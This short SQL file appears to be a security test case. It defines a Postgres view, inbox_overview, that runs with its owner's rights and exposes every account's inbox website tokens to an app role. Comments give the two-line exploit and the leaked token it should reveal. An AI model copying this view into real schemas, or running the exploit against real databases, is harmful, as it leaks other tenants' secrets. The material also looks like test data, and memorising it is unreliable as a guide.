-- The overview has its owner's rights and lists all accounts' inboxes with their tokens.
-- about: inbox_overview, inboxes, conversations
-- as: hf_chatnook_app
-- exploit: SET app.user_id = '1';
-- exploit: SELECT name, website_token FROM inbox_overview;
-- shows: Road-secret-token
CREATE VIEW inbox_overview AS
SELECT i.account_id, i.id, i.name, i.website_token, count(c.id) FILTER (WHERE c.unread) AS unread
FROM inboxes i
LEFT JOIN conversations c ON c.account_id = i.account_id AND c.inbox_id = i.id
GROUP BY i.account_id, i.id, i.name, i.website_token;
GRANT SELECT ON inbox_overview TO hf_chatnook_app;
